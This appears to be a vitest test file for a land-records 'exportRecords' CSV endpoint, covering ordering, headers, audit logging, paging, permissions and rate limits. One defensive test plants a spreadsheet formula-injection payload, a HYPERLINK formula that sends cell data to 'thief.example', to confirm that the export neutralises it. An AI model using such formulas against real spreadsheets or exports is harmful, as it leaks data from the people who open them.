import { describe, expect, test } from 'vitest';
import {
  exportRowsHeader,
  exportsPerHour,
  ExportKind,
} from '@contract/endpoints/export-records';
import { Api, codeOf, type User } from '../support/api';
import { toDates } from '../../../functions/src/firestore/stored-document';
import { callSaveGround, describePlot, newPlace } from '../support/grounds';
import { signInHalfAdministrator } from '../support/half-administrator';
import { newAdministrator } from '../support/new-administrator';
import { addReport } from '../support/reports';

const api = await Api.start();
const manager = await newAdministrator(api);
const owner = await api.newUser();

async function exportAs(caller: User, body: Record<string, unknown>) {
  const answer = await fetch(`${api.suite.addresses.api}/exportRecords`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      authorization: `Bearer ${caller.token}`,
    },
    body: JSON.stringify(body),
  });
  const text = Buffer.from(await answer.arrayBuffer()).toString();
  const [names = '', ...rows] = text.split('\r\n').slice(0, -1);
  return { status: answer.status, headers: answer.headers, text, names, rows };
}

/** A day of long ago that no other record has. */
let daysUsed = 0;
function findFreeDay(): string {
  daysUsed += 1;
  return new Date(Date.UTC(2001, 0, daysUsed)).toISOString().slice(0, 10);
}

function addPaidRequest(day: string, fields: Record<string, unknown> = {}) {
  return api.addRequest(owner, {
    createdAt: new Date(`${day}T12:00:00Z`),
    paymentStatus: true,
    paidAt: new Date(`${day}T12:05:00Z`),
    reference: 'LS-7K3M-98',
    ...fields,
  });
}

async function auditOf(by: User) {
  const { docs } = await api.db
    .collection('audit')
    .where('by', '==', by.uid)
    .where('action', '==', 'records-exported')
    .get();
  return docs.map((entry) => entry.data());
}

describe('exportRecords', () => {
  test('writes paid requests of the days, the oldest first, and the audit says how many', async () => {
    const day = findFreeDay();
    const late = await addPaidRequest(day, {
      createdAt: new Date(`${day}T23:59:59.999Z`),
      name: 'Ɛsi "Ŋmɛn"',
    });
    const early = await addPaidRequest(day, {
      createdAt: new Date(`${day}T00:00:00Z`),
    });
    await addPaidRequest(findFreeDay());
    await addPaidRequest(day, { paymentStatus: false });
    const { status, headers, text, names, rows } = await exportAs(manager, {
      kind: 'requests',
      from: day,
      to: day,
    });
    expect(status).toBe(200);
    expect(Object.fromEntries(headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment',
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
      [exportRowsHeader]: '2',
    });
    expect(text.startsWith('\uFEFF"Record","Reference","Requested"')).toBe(
      true,
    );
    expect(names).toContain('"Address of the land"');
    expect(rows.map((row) => row.slice(1, row.indexOf('"', 1)))).toEqual([
      early,
      late,
    ]);
    expect(rows[1]).toContain('"Ɛsi ""Ŋmɛn"""');
    expect(await auditOf(manager)).toEqual([
      expect.objectContaining({
        by: manager.uid,
        collection: 'requests',
        documentId: 'several',
        before: {},
        after: {
          exportedKind: 'requests',
          firstDay: day,
          lastDay: day,
          rows: 2,
        },
      }),
    ]);
  });

  test('writes what a customer typed so that no spreadsheet calculates it', async () => {
    const day = findFreeDay();
    await addPaidRequest(day, {
      name: '=HYPERLINK("http://thief.example?"&A1,"Open")',
      address: 'Accra;@SUM(1+1)\r\n+233',
    });
    const { rows } = await exportAs(manager, {
      kind: 'requests',
      from: day,
      to: day,
    });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toContain(
      `"'=HYPERLINK(""http://thief.example?""&A1,""Open"")"`,
    );
    expect(rows[0]).toContain(`"Accra;'@SUM(1+1)\n'+233"`);
  });

  test('writes what was typed from plans, and how the alarms about it stand, but whose land the other one is', async () => {
    const [officer, rival] = [
      await newAdministrator(api, { roles: ['officer'] }),
      await api.newUser(),
    ];
    const place = newPlace();
    const requestId = await api.addRequest(owner, {
      paymentStatus: true,
      reference: 'LS-7K3M-98',
    });
    const reportId = await addReport(api, rival);
    const typed = describePlot(place, {
      printed: {
        area: { value: '=0.30', unit: 'acre' },
        scale: '500',
        region: null,
      },
    });
    await callSaveGround(api, officer, {
      documentId: requestId,
      description: typed,
    });
    await callSaveGround(api, officer, {
      collection: 'due-diligence',
      documentId: reportId,
      description: describePlot({ ...place, east: place.east + 15 }),
    });
    const request = await api.read(`requests/${requestId}`);
    const saved = await api.read(`plan_grounds/requests-${requestId}`);
    const today = new Date().toISOString().slice(0, 10);
    const { names, rows } = await exportAs(manager, {
      kind: 'grounds',
      from: today,
      to: today,
    });
    const rowOf = (id: string) => {
      const row = rows.find((line) => line.startsWith(`"${id}",`)) ?? '';
      const cells = row.slice(1, -1).split('","');
      return Object.fromEntries(
        names
          .slice(2, -1)
          .split('","')
          .map((name, index) => [name, cells[index]]),
      );
    };
    const row = rowOf(`requests-${requestId}`);
    expect(row).toMatchObject({
      Reference: 'LS-7K3M-98',
      Collection: 'requests',
      'About record': requestId,
      'Confirmed by': officer.uid,
      Version: '1',
      Table: 'coordinates',
      Grid: 'national-grid-metres',
      Unit: '',
      'Plan names its datum': 'yes',
      Corners: '4',
      'Area in m2': '1200.00',
      'Area in acres': '0.2965',
      'Printed area': "'=0.30 acre",
      'Printed scale': '500',
      Seal: '',
      'Barcode or QR code': 'no',
      'Has a place': 'yes',
      'Compared with other plans': 'yes',
      Alarms: '1',
      'State of the alarms': 'open',
      'Matches without an alarm': '0',
    });
    expect(rowOf(`due-diligence-${reportId}`)).toMatchObject({
      Collection: 'due-diligence',
      Alarms: '1',
    });
    const text = JSON.stringify(row);
    for (const secret of [reportId, rival.uid, place.east, place.north]) {
      expect(text).not.toContain(String(secret));
    }
    expect(Object.keys(saved)).not.toContain('alarmStates');

    const asRequest = await exportAs(manager, {
      kind: 'requests',
      from: today,
      to: today,
    });
    const { confirmedAt } = toDates(request['ground']) as { confirmedAt: Date };
    expect(asRequest.names).toContain(
      '"District","Area in m2","Area in acres","Corners confirmed","Paid"',
    );
    const time = confirmedAt.toISOString().slice(0, 19).replace('T', ' ');
    expect(
      asRequest.rows.find((line) => line.startsWith(`"${requestId}",`)),
    ).toContain(`"1200.00","0.2965","${time}"`);
  });

  test.each(ExportKind.options)('writes %s', async (kind) => {
    const { status, headers, rows } = await exportAs(manager, {
      kind,
      from: '2002-01-01',
      to: '2100-01-01',
    });
    expect(status).toBe(200);
    expect(rows.length).toBe(Number(headers.get(exportRowsHeader)));
    expect(
      rows.filter((row) => row.includes('This record cannot be read.')),
    ).toEqual([]);
  });

  test('pages through more than one page, each record once', async () => {
    const day = findFreeDay();
    const at = new Date(`${day}T12:00:00Z`);
    const batchSize = 400;
    const ids = Array.from({ length: 1_201 }, (_, index) => `audit-${index}`);
    for (let start = 0; start < ids.length; start += batchSize) {
      const batch = api.db.batch();
      for (const auditId of ids.slice(start, start + batchSize)) {
        batch.set(api.db.doc(`audit/${auditId}`), {
          auditId,
          at,
          by: 'schedule',
          action: 'admin-config-saved',
          collection: 'AdminConfig',
          documentId: 'main',
          before: {},
          after: {},
        });
      }
      await batch.commit();
    }
    const { rows } = await exportAs(manager, {
      kind: 'audit',
      from: day,
      to: day,
    });
    expect(new Set(rows).size).toBe(ids.length);
  });

  test('one record that cannot be read is one row that says so', async () => {
    const day = findFreeDay();
    const good = await addPaidRequest(day);
    const bad = await addPaidRequest(day, { price: '=1+1' });
    const { rows } = await exportAs(manager, {
      kind: 'requests',
      from: day,
      to: day,
    });
    expect(rows).toContain(`"${bad}","This record cannot be read."`);
    expect(rows.some((row) => row.startsWith(`"${good}",`))).toBe(true);
  });

  test('without records it is a row of names, and on the record too', async () => {
    const day = findFreeDay();
    const alone = await newAdministrator(api);
    const { rows, headers } = await exportAs(alone, {
      kind: 'payments',
      from: day,
      to: day,
    });
    expect([rows, headers.get(exportRowsHeader)]).toEqual([[], '0']);
    expect(await auditOf(alone)).toHaveLength(1);
  });
});

describe('exportRecords refuses', () => {
  const days = { from: '2026-01-01', to: '2026-12-31' };

  test('customers, and whoever has one half of the right only', async () => {
    for (const caller of [
      owner,
      await signInHalfAdministrator(api, 'claim'),
      await signInHalfAdministrator(api, 'record'),
    ]) {
      const reply = await api.call('exportRecords', caller, {
        kind: 'requests',
        ...days,
      });
      expect([reply.status, codeOf(reply)]).toEqual([403, 'permission-denied']);
    }
  });

  test('somebody whose roles were taken away a moment ago', async () => {
    const former = await newAdministrator(api);
    await api.db.doc(`admins/${former.uid}`).update({ roles: [] });
    const reply = await api.call('exportRecords', former, {
      kind: 'audit',
      ...days,
    });
    expect(reply.status).toBe(403);
    expect(await auditOf(former)).toEqual([]);
  });

  test.each([
    ['no kind', days],
    ['an unknown kind', { kind: 'users', ...days }],
    ['no days', { kind: 'audit' }],
    [
      'a day that is none',
      { kind: 'audit', from: '2026-02-30', to: '2026-03-01' },
    ],
    [
      'days in the wrong order',
      { kind: 'audit', from: '2026-02-02', to: '2026-02-01' },
    ],
  ])('%s', async (_, body) => {
    const reply = await api.call('exportRecords', manager, body);
    expect([reply.status, codeOf(reply)]).toEqual([400, 'invalid-argument']);
  });

  test('more than so many in an hour, and writes nothing about it', async () => {
    const busy = await newAdministrator(api);
    const day = findFreeDay();
    const ask = () =>
      api.call('exportRecords', busy, { kind: 'audit', from: day, to: day });
    for (let nth = 0; nth < exportsPerHour; nth += 1) {
      expect((await ask()).status).toBe(200);
    }
    const reply = await ask();
    expect([reply.status, codeOf(reply)]).toEqual([429, 'resource-exhausted']);
    expect(await auditOf(busy)).toHaveLength(exportsPerHour);
  });
});
